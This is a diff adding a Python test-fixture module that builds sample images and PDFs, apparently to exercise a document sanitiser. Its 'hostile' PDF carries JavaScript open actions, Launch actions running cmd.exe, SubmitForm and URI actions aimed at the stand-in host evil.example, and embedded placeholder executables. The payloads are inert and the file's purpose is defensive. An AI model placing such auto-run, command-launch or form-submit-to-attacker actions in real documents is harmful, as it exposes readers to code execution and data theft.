@@ -1,0 +1,94 @@
+"""Files as people send them, good and bad."""
+
+from io import BytesIO
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, Pdf, String
+from PIL import Image, ImageDraw
+
+A4 = (595, 842)
+
+
+def picture(width: int = 600, height: int = 400, *, kind: str = "JPEG", **how: object) -> bytes:
+    """A picture whose upper left corner is red."""
+    image = Image.new("RGB", (width, height), "white")
+    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill="red")
+    out = BytesIO()
+    image.save(out, kind, **how)
+    return out.getvalue()
+
+
+def turned() -> bytes:
+    """A picture that a telephone held sideways took: it says so in its notes, with its place."""
+    exif = Image.Exif()
+    exif[0x0112] = 6  # to be turned clockwise by a quarter
+    exif[0x010E] = "where I live"
+    return picture(exif=exif, comment=b"secret comment")
+
+
+def pdf(pages: int = 1, text: str = "EVIDENCE", **save: object) -> bytes:
+    """A PDF with a line of text on each page."""
+    with Pdf.new() as made:
+        _fill(made, pages, text)
+        return _saved(made, **save)
+
+
+def hostile() -> bytes:
+    """A PDF with everything that acts or hides."""
+    with Pdf.new() as made:
+        _fill(made, 2, "CONTRACT")
+        script = Dictionary(S=Name.JavaScript, JS=String("app.alert('SECRET')"))
+        made.Root.OpenAction = script
+        made.Root.AA = Dictionary(WC=script)
+        made.Root.URI = Dictionary(Base=String("http://evil.example"))
+        made.attachments["virus.exe"] = b"MZ SECRET"
+        made.Root.Names["/JavaScript"] = Dictionary(Names=Array([String("x"), script]))
+        made.Root.Metadata = made.make_stream(b"<x>SECRET</x>", Type=Name.Metadata, Subtype=Name.XML)
+        made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp>SECRET</xdp>"))
+        made.docinfo["/Author"] = "SECRET"
+        page = made.pages[0]
+        page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
+        page.Annots = Array([_link(action) for action in _actions(script)] + [_attachment(made)])
+        return _saved(made)
+
+
+def _actions(script: Dictionary) -> list[Dictionary]:
+    return [
+        script,
+        Dictionary(S=Name.Launch, F=String("cmd.exe")),
+        Dictionary(S=Name.URI, URI=String("http://evil.example")),
+        Dictionary(S=Name.SubmitForm, F=String("http://evil.example")),
+        Dictionary(S=Name.GoToE, F=String("other.pdf")),
+        Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([script])),
+    ]
+
+
+def _link(action: Dictionary) -> Dictionary:
+    rect = Array([0, 0, 100, 100])
+    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=action, AA=Dictionary(E=action))
+
+
+def _attachment(made: Pdf) -> Dictionary:
+    file = Dictionary(EF=Dictionary(F=made.make_stream(b"MZ SECRET")), F=String("a.exe"))
+    rect = Array([0, 0, 10, 10])
+    return Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=rect, FS=file)
+
+
+def encrypted(*, owner_only: bool = False) -> bytes:
+    """A PDF with a password, or one that only forbids."""
+    how = pikepdf.Encryption(owner="secret", user="" if owner_only else "open me")
+    return pdf(encryption=how)
+
+
+def _fill(made: Pdf, pages: int, text: str) -> None:
+    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
+    for number in range(1, pages + 1):
+        page = made.add_blank_page(page_size=A4)
+        page.Resources = Dictionary(Font=Dictionary(F1=font))
+        page.Contents = made.make_stream(f"BT /F1 40 Tf 80 700 Td ({text} {number}) Tj ET".encode())
+
+
+def _saved(made: Pdf, **how: object) -> bytes:
+    out = BytesIO()
+    made.save(out, **how)  # type: ignore[arg-type]
+    return out.getvalue()
